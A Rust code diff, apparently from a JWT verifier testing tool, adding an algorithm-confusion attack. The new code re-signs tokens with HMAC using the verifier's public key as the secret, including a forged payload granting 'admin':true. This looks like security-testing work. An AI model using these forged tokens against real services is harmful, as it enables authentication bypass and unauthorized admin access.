@@ -134,6 +134,25 @@ pub fn run(ctx: &mut Ctx, o: &AttackOpts) {
                     go(ctx, &m2, i % 2 == 0);
                 }
             }
+            // algorithm confusion: header alg rewritten to HS*, signed with the resolver's PUBLIC key bytes as HMAC secret
+            if crate::keys::family(key) != "HMAC" {
+                let p: Vec<&str> = m.jwt.split('.').collect();
+                for (_form, secret) in crate::keys::pub_forms(key) {
+                    for hs in ["HS256", "HS384", "HS512"] {
+                        let h2 = b64(format!("{{\"alg\":\"{}\"}}", hs).as_bytes());
+                        for payload in [p[1].to_string(), b64(br#"{"iss":"https://issuer.example","exp":4000000000,"admin":true}"#)] {
+                            let msg_text = format!("{}.{}", h2, payload);
+                            let sig = jsonwebtoken::crypto::sign(msg_text.as_bytes(), &jsonwebtoken::EncodingKey::from_secret(&secret), hs.parse().unwrap()).unwrap();
+                            let jwt = format!("{}.{}", msg_text, sig);
+                            ctx.emit(crate::jt::obj(&[("ev", crate::jt::qs("AdvSign")), ("key", crate::jt::qs("pub-as-hmac")), ("alg", crate::jt::qs(hs)), ("id", crate::jt::qs(&jwt))]));
+                            let mut m2 = m.clone();
+                            m2.jwt = jwt;
+                            m2.kb = None;
+                            go(ctx, &m2, false);
+                        }
+                    }
+                }
+            }
             // truncations of the signature, stripped signature, swapped parts
             let p: Vec<&str> = m.jwt.split('.').collect();
             for k in [1usize, 2, 3, 10, p[2].len()] {
